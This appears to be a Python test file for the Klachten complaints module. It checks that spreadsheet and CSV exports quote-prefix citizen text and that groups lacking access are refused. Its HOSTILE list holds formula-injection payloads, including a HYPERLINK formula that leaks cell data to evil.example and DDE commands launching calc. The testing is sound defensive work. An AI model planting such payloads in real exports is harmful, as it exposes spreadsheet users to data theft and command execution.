# This file is part of Klachten.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""Every way complaint text leaves is formula-safe, and the register is
refused, not broken, for a group without it."""
import base64
import csv
import io
import unittest
from urllib.parse import urlencode

from openpyxl import load_workbook
from werkzeug.test import Client

from klachten_base.tests.tools import (
    create_complainant, create_complaint, password, set_user,
    setup_municipality)
from proteus import Model, Report
from proteus import config as pconfig
from trytond.model.exceptions import AccessError
from trytond.protocols.wrappers import Response
from trytond.tests.test_tryton import DB_NAME, drop_db
from trytond.tests.tools import activate_modules
from trytond.wsgi import app

from ..registry import COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-1+1',
    ]
HARMLESS = "Nobody answered my letter"
COLUMN = {key: i for i, (key, _, _) in enumerate(COLUMNS)}


class ExportSafetyTestCase(unittest.TestCase):
    "Formula-safe exports"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        activate_modules('klachten_report')
        cls.config = pconfig.get_config()
        setup_municipality()
        set_user('coordinator')
        party = create_complainant("Export Test", None)
        cls.ids = [create_complaint(party, short_description=d).id
            for d in HOSTILE + [HARMLESS]]
        cls.client = Client(app, Response)

    @classmethod
    def tearDownClass(cls):
        drop_db()
        super().tearDownClass()

    def test_register_cells_keep_quote_prefix(self):
        "Citizen text in the register is quote-prefixed, harmless or not"
        set_user('coordinator', self.config)
        Complaint = Model.get('klachten.complaint')
        _, content, _, _ = Report('klachten.complaint.register').execute(
            [Complaint(i) for i in self.ids], {})
        sheet = load_workbook(io.BytesIO(bytes(content))).worksheets[0]
        cells = [r[COLUMN['short_description']]
            for r in sheet.iter_rows(min_row=2)]
        self.assertEqual(sorted(c.value for c in cells),
            sorted(HOSTILE + [HARMLESS]))
        for cell in cells:
            with self.subTest(value=cell.value):
                self.assertEqual(cell.data_type, 's')
                self.assertTrue(cell.quotePrefix)

    def test_register_refused_without_group(self):
        "A group without the register gets an access error"
        for login in ['receiver', 'observer']:
            set_user(login, self.config)
            with self.subTest(login=login):
                with self.assertRaises(AccessError):
                    Report('klachten.complaint.register').execute([], {})

    def test_data_route_is_formula_safe(self):
        "Tryton's /data CSV quotes every cell a spreadsheet would compute"
        token = base64.b64encode(
            f"coordinator:{password('coordinator')}".encode()).decode()
        response = self.client.get(
            f'/{DB_NAME}/data/klachten.complaint?' + urlencode([
                    ('d', repr(self.ids)), ('f', 'short_description')]),
            headers={'Authorization': f'Basic {token}'})
        self.assertEqual(response.status_code, 200, response.data)
        rows = list(csv.reader(io.StringIO(response.data.decode())))
        cells = {r[0] for r in rows[1:]}
        self.assertEqual(cells,
            {"'" + h for h in HOSTILE} | {HARMLESS})
